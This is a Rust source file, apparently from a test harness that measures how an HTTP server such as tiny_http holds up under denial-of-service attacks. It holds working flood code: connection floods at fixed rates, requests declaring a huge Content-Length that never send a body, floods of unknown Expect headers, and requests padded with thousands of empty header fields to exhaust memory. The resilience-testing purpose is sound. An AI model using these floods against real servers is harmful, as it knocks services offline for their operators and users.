//! Attacks that go on at a constant rate.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use crate::busy::while_busy;
use crate::wire::{linger, paced, send, send_many};

/// A body that must not be allocated, so that the request is never dropped.
const UNDROPPABLE: &[u8] =
    b"POST / HTTP/1.1\r\nHost: test\r\nContent-Length: 1000000000000000\r\n\r\n";

/// How long an attacker keeps a connection.
const KEPT: Duration = Duration::from_millis(500);

/// Sends the request this many times a second, each on a connection of its own.
fn flood(address: SocketAddr, request: &[u8], a_second: u32, seconds: u32) {
    let mut open = VecDeque::new();
    paced(a_second * seconds, a_second, |_| {
        open.push_back((Instant::now(), send(address, request)));
        while open
            .front()
            .is_some_and(|(since, _)| since.elapsed() > KEPT)
        {
            open.pop_front();
        }
    });
}

/// tiny_http answers it with 417 by itself, and closes the connection without saying so.
pub fn unknown_expectations(address: SocketAddr) -> Option<String> {
    let request = b"GET / HTTP/1.1\r\nHost: test\r\nExpect: x\r\n\r\n";
    while_busy(address, || {
        flood(address, request, 2000, 3);
        None
    })
}

/// Enough to spend the budget.
pub fn undroppable_1000(address: SocketAddr) -> Option<String> {
    flood(address, UNDROPPABLE, 1000, 6);
    None
}

pub fn undroppable_50(address: SocketAddr) -> Option<String> {
    flood(address, UNDROPPABLE, 50, 4);
    None
}

pub fn undroppable_bursts(address: SocketAddr) -> Option<String> {
    let mut open = Vec::new();
    for _ in 0..4 {
        open.push(send_many(address, 20, UNDROPPABLE));
        linger(1000);
    }
    drop(open);
    None
}

/// What the flood leaves behind, while nobody but one client asks any more.
pub fn undroppable_500_before(address: SocketAddr) -> Option<String> {
    flood(address, UNDROPPABLE, 500, 2);
    linger(2000);
    None
}

/// 8 kB of fields that take twenty times as much memory, before bodies that never come.
pub fn empty_fields(address: SocketAddr) -> Option<String> {
    let fields = "a:\r\n".repeat(1980);
    let request = format!("POST / HTTP/1.1\r\nHost: test\r\n{fields}Content-Length: 9\r\n\r\n");
    let mut open = Vec::new();
    paced(1300, 600, |_| {
        open.extend(send(address, request.as_bytes()));
    });
    linger(1000);
    (open.len() < 1300).then(|| format!("only {} of 1300 connections", open.len()))
}
